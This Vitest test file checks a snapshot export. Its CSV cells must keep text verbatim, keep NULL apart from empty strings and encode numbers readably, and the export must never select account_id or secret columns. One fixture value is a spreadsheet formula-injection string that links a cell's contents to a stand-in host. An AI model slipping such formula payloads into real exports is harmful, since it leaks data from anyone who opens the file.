/**
 * Snapshot cells and row filters without a database: values are written as stored
 * (docs/EXPORTS.md#the-snapshot, docs/EXPORTS.md#names-and-cells), and the SQL row filters of split
 * tables mean exactly what the layout's `rowBelongs` says.
 */
import { describe, expect, it } from "vitest";
import { tableSpec } from "../../../src/db/schema/index.js";
import { csvLine, MACHINE_CSV } from "../../../src/exports/csv/csv-dialect.js";
import { snapshotCell } from "../../../src/exports/formats/snapshot/cell-value.js";
import { SNAPSHOT_FILES } from "../../../src/exports/formats/snapshot/layout.js";
import { storedColumns } from "../../../src/exports/formats/snapshot/table-rows.js";

describe("snapshot cells", () => {
  it("keeps text verbatim, NULL apart from the empty string, booleans and numbers machine-readable", () => {
    const values = [
      '=HYPERLINK("http://x/?"&A1,"cv")',
      "'already",
      "",
      null,
      undefined,
      true,
      false,
      0,
      -5,
      0.1,
      1e21,
      Number.NaN,
      Number.POSITIVE_INFINITY,
      Number.NEGATIVE_INFINITY,
      "2026-11-24T09:00:00.000Z",
      "a\r\nb",
    ];
    expect(csvLine(values.map(snapshotCell), MACHINE_CSV)).toBe(
      '"=HYPERLINK(""http://x/?""&A1,""cv"")",\'already,"",,,true,false,0,-5,0.1,1e+21,NaN,INF,-INF,2026-11-24T09:00:00.000Z,"a\r\nb"\r\n',
    );
    expect(snapshotCell(new Date("2026-11-24T09:00:00Z"))).toBe("2026-11-24T09:00:00.000Z");
  });

  it("splits tables only on NOT NULL columns, so SQL `NOT IN` is the layout's rowBelongs", () => {
    for (const f of SNAPSHOT_FILES.filter((x) => x.where)) {
      const col = tableSpec(f.table).columns[f.where!.column]!;
      expect(col.nullable === true, `${f.path} ${f.where!.column}`).toBe(false);
    }
  });

  it("selects only the layout's columns from the database: never account_id or a secret", () => {
    for (const f of SNAPSHOT_FILES) {
      const spec = tableSpec(f.table).columns;
      for (const c of storedColumns(f)) {
        expect(spec[c], `${f.path} ${c}`).toBeDefined();
        expect(spec[c]!.secret === true, `${f.path} ${c}`).toBe(false);
        expect(c).not.toBe("account_id");
      }
    }
  });
});
